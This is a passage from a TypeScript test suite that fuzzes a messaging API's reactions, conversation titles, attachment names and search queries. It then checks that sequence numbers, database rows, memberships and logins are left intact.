      if ((found.body.items as MessageView[]).length === 0) failures.push(`search ${word} finds nothing`);
    }
    expect(failures).toEqual([]);
  });

  it('stores well-formed reactions exactly, and takes them back', async () => {
    const url = (emoji: string): string => `/v1/conversations/${groupId}/messages/2/reactions/${encodeURIComponent(emoji)}`;
    for (const emoji of WELL_FORMED_EMOJI) expect({ emoji, status: (await api.call('PUT', url(emoji), undefined, { token: owner.token })).status }).toEqual({ emoji, status: 204 });
    const reactions = (await messageAt(groupId, 2)).reactions;
    expect(Object.keys(reactions).sort()).toEqual([...WELL_FORMED_EMOJI].sort());
    for (const emoji of WELL_FORMED_EMOJI) expect(Object.getOwnPropertyDescriptor(reactions, emoji)?.value).toEqual({ count: 1, mine: true });
    for (const emoji of WELL_FORMED_EMOJI) expect({ emoji, status: (await api.call('DELETE', url(emoji), undefined, { token: owner.token })).status }).toEqual({ emoji, status: 204 });
    expect((await messageAt(groupId, 2)).reactions).toEqual({});
  });

  it('stores hostile but well-formed titles and file names exactly, and answers odd but harmless queries without a 5xx', async () => {
    const failures: string[] = [];
    for (const title of WELL_FORMED_TITLES) {
      const created = await api.call('POST', '/v1/conversations', { type: 'group', memberIds: [peer.id], title }, { token: owner.token });
      if (created.status !== 201) {
        failures.push(`create ${JSON.stringify(title.slice(0, 20))}: ${created.status}`);
        continue;
      }
      intendedConversations += 1;
      const read = await api.call('GET', `/v1/conversations/${String(created.body.id)}`, undefined, { token: owner.token });
      if (read.body.title !== title) failures.push(`create ${JSON.stringify(title.slice(0, 20))} reads back as ${JSON.stringify(String(read.body.title).slice(0, 20))}`);
      const patched = await api.call('PATCH', `/v1/conversations/${String(created.body.id)}`, { title: `${title.slice(0, 190)} (2)` }, { token: owner.token });
      if (patched.status !== 200 || patched.body.title !== `${title.slice(0, 190)} (2)`) failures.push(`patch ${JSON.stringify(title.slice(0, 20))}: ${patched.status}`);
      const attachment = await api.call('POST', '/v1/attachments', { conversationId: groupId, fileName: title, contentType: 'application/pdf', size: 1 }, { token: owner.token });
      if (attachment.status !== 201) failures.push(`attachment named ${JSON.stringify(title.slice(0, 20))}: ${attachment.status}`);
    }
    const handled = (status: number): boolean => status < 500;
    const oddQueries = [
      // an undecodable escape or lone surrogate stays as it is: a search for its letters
      ...[...GENERIC_STRINGS.filter((text) => text.length <= 200), ...WELL_FORMED_TITLES, 'a', 'ab', '🔥 abc', `\ud800${CANARY}`].map((q) => `/v1/search/messages?q=${encodeQuery(q)}`),
      '/v1/search/messages?q=%E0%A4%A',
      `/v1/conversations/${groupId}/messages?afterSeq=${MAX_SEQ}`, `/v1/conversations/${groupId}/messages?beforeSeq=${MAX_SEQ}`, `/v1/conversations/${groupId}/messages?afterSeq=5&beforeSeq=2`,
      `/v1/search/messages?q=fuzz&conversationId=${groupId.toUpperCase()}`,
    ];
    failures.push(...(await refusals(api, oddQueries.map((url) => callProbe('odd query', { method: 'GET', url }, bearer(owner))), handled)));
    expect(failures).toEqual([]);
  });

  it('leaves everything whole afterwards: gap-free seqs, nothing half-written, no prototype polluted, everyone signs in', async () => {
    expect(pollution(prototypesBefore)).toEqual([]);

    // every conversation: lastSeq is the messages the test meant to send, and they are exactly seqs 1..lastSeq
    for (const [conversationId, intended] of intendedMessages) {
      const conversation = expectStatus(await api.call('GET', `/v1/conversations/${conversationId}`, undefined, { token: owner.token }), 200);
      expect({ conversationId, lastSeq: conversation.body.lastSeq }).toEqual({ conversationId, lastSeq: intended });
      expect((await everyMessage(conversationId)).map((message) => message.seq)).toEqual(Array.from({ length: intended }, (_, index) => index + 1));
    }
    // and so says the database, for every conversation of the organisation, with one message.created event per message
    const rows = await asOwner(async (db) => (await db.query<{ id: string; last_seq: string; messages: number; top: string; created_events: number }>(`
      SELECT c.id, c.last_seq, count(m.id)::int AS messages, coalesce(max(m.seq), 0) AS top,
             (SELECT count(*)::int FROM outbox_event o WHERE o.channel = 'conversation:' || c.id AND o.event_type = 'message.created') AS created_events
        FROM conversation c LEFT JOIN message m ON m.conversation_id = c.id WHERE c.tenant_id = $1 GROUP BY c.id`, [clinic.tenant.tenantId])).rows);
    for (const row of rows) expect({ id: row.id, messages: row.messages, top: Number(row.top), events: row.created_events }).toEqual({ id: row.id, messages: Number(row.last_seq), top: Number(row.last_seq), events: Number(row.last_seq) });

    // the messages path parameters were fuzzed on: unedited, unreacted, undeleted
    const [reactTarget, deleteTarget] = await everyMessage(paramGroupId);
    expect(reactTarget).toMatchObject({ seq: 1, body: 'React to me', editedAt: null, deletedAt: null, reactions: {} });
    expect(deleteTarget).toMatchObject({ seq: 2, body: 'Do not delete me', deletedAt: null });
    expect((await messageAt(groupId, 1)).body).toBe('Fuzz original');
    const fuzzedEditHistory = expectStatus(await api.call('GET', `/v1/conversations/${groupId}/messages/1/history`, undefined, { token: owner.token }), 200);
    expect((fuzzedEditHistory.body.items as { body: string }[]).map((item) => item.body)).toEqual(['Fuzz original']);

    // memberships and conversations: exactly the ones meant
    for (const id of [groupId, paramGroupId]) {
      const members = (expectStatus(await api.call('GET', `/v1/conversations/${id}`, undefined, { token: owner.token }), 200).body.members as { userId: string }[]).map((member) => member.userId).sort();
      expect(members).toEqual([owner.id, peer.id, third.id].sort());
    }
    expect((await api.call('GET', `/v1/conversations/${groupId}`, undefined, { token: owner.token })).body.title).toBe('Fuzz ward');
    const listed = expectStatus(await api.call('GET', '/v1/conversations?limit=200', undefined, { token: owner.token }), 200);
    expect((listed.body.items as unknown[]).length).toBe(intendedConversations);
    // no attachment of the fuzz got linked to a message
    const linked = await asOwner(async (db) => (await db.query<{ n: number }>('SELECT count(*)::int AS n FROM attachment WHERE tenant_id = $1 AND message_id IS NOT NULL', [clinic.tenant.tenantId])).rows[0].n);
    expect(linked).toBe(0);

    // everyone still signs in, and every token still works
    expect((await api.login(clinic.tenant.slug, owner.email)).status).toBe(200);
    expect((await api.login(clinic.tenant.slug, clinic.tenant.adminEmail)).status).toBe(200);
    for (const member of [owner, peer, third, clinic.admin]) expect((await api.call('GET', '/v1/users/me', undefined, { token: member.token })).status).toBe(200);
  });
});
